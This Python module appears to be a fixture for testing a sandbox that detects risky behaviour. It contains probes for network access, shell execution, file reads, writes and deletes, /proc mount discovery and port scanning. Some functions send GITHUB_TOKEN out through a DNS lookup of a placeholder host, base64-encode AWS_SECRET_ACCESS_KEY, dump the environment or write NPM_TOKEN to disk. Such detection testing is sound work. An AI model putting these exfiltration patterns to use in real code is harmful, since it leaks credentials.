"""Does what the sandbox must see, and what it must not mistake for it."""

from __future__ import annotations

import base64
import ctypes.util
import getpass
import multiprocessing
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import uuid
from pathlib import Path

LEFT = Path(tempfile.mkdtemp(prefix="acme-"), "left")
LEFT.write_text("by the import")


def tried(action) -> str:
    try:
        return f"done: {action()!r}"[:300]
    except BaseException as error:
        return f"refused: {type(error).__name__}: {error}"[:300]


def request(url: str) -> str:
    return tried(lambda: urllib.request.urlopen(url, b"name=Ada", timeout=3).read())


def look_up() -> str:
    return socket.gethostbyname("look-up.invalid")


def connect(address: str, port: int) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as client:
        client.settimeout(3)
        client.connect((address, port))
        client.send(b"HELO there")
        return tried(lambda: client.recv(10))


def datagrams() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        sent = client.sendto(b"plain", ("192.0.2.1", 5001))
        sent += client.sendmsg([b"in ", b"parts"], [], 0, ("192.0.2.2", 5002))
        client.connect(("192.0.2.3", 5003))
        return sent + client.send(b"connected")


def tunnel() -> str:
    """A secret in the name of a host."""
    secret = os.environ["GITHUB_TOKEN"].lower().replace("_", "-")[4:]
    return tried(lambda: socket.gethostbyname(f"{secret}.tunnel.invalid"))


def start(program: str) -> str:
    return tried(lambda: subprocess.run([program, "--version"], capture_output=True, check=True))


def shell() -> int:
    return os.system("true; id > /dev/null")


def read(path: str) -> str:
    return tried(lambda: len(Path(path).expanduser().read_bytes()))


def leak(path: str) -> str:
    return Path(path).expanduser().read_text()


def leak_environment() -> dict[str, str]:
    return dict(os.environ)


def hide_environment() -> str:
    return base64.b64encode(f"x{os.environ['AWS_SECRET_ACCESS_KEY']}".encode()).decode()


def write(path: str) -> str:
    return tried(lambda: Path(path).expanduser().write_text("written"))


def write_secret() -> int:
    return Path("secret.txt").write_text(os.environ["NPM_TOKEN"])


def delete(path: str) -> str:
    return tried(Path(path).expanduser().unlink)


def mounts() -> list[str]:
    """Every way to the kernel's list of mounts, which names folders of the machine."""
    Path("/tmp/link").symlink_to("/proc/self/mounts")
    Path("/tmp/folder").symlink_to("/proc/self")
    folder = os.open("/proc/self", os.O_RDONLY)
    own = os.open("mountinfo", os.O_RDONLY, dir_fd=folder)
    os.chdir("/proc/self")
    paths = ["mountinfo", "/proc/self/mountinfo", "/proc/mounts", "/tmp/link"]
    paths += ["/tmp/folder/mountstats", "/tmp/../proc/thread-self/mountinfo"]
    return [os.read(own, 100).decode(), *(Path(path).read_text() for path in paths)]


def own_mounts() -> str:
    """A file of ours that only has the name."""
    Path("mounts").write_text("ours")
    return Path("mounts").read_text()


def cached() -> str:
    """What an earlier call left in any folder that can be written to."""
    places = [Path(folder, "cache") for folder in ("/tmp", "/dev/shm", Path.home())]
    found = [place for place in places if place.exists()]
    for place in places:
        place.write_text("seen")
    LEFT.with_name("other").write_text("seen")
    return f"{len(found)} {LEFT.read_text()} {LEFT.with_name('other').exists()}"


def change_left() -> str:
    """Change what the import left."""
    before = LEFT.read_text()
    LEFT.write_text("by a call")
    return before


def deep() -> str:
    """Folders in folders, deeper than any recursion."""
    os.chdir("/tmp")
    for _ in range(450):
        os.mkdir("d")
        os.chdir("d")
    return "done"


def innocent() -> str:
    """What interpreters and libraries do by themselves."""
    ctypes.util.find_library("z")
    platform.processor(), platform.uname(), platform.libc_ver()
    getpass.getuser(), uuid.getnode(), Path.home()
    with tempfile.NamedTemporaryFile() as file, tempfile.TemporaryDirectory() as folder:
        file.write(b"x")
        Path(folder, "y").write_text("y")
        shutil.copy(Path(folder, "y"), Path(folder, "z"))
    time.localtime(), socket.gethostname(), socket.getfqdn(), socket.gethostbyname("localhost")
    left, right = socket.socketpair()
    left.sendmsg([b"x"]), right.recv(1)
    with socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname()).close()
    multiprocessing.get_context("fork").Lock()
    thread = threading.Thread(target=time.tzset)
    thread.start(), thread.join()
    for path in ("/proc/self/status", "/proc/cpuinfo", "/etc/localtime", "/etc/mime.types"):
        tried(Path(path).read_bytes)
    return Path(__file__).name + Path(os.__file__).name + sys.version


def connect_much(count: int) -> int:
    """Connections until one is refused."""
    for number in range(count):
        with socket.socket() as client:
            client.settimeout(2)
            if client.connect_ex(("192.0.2.1", 1 + number)):
                return number
    return count
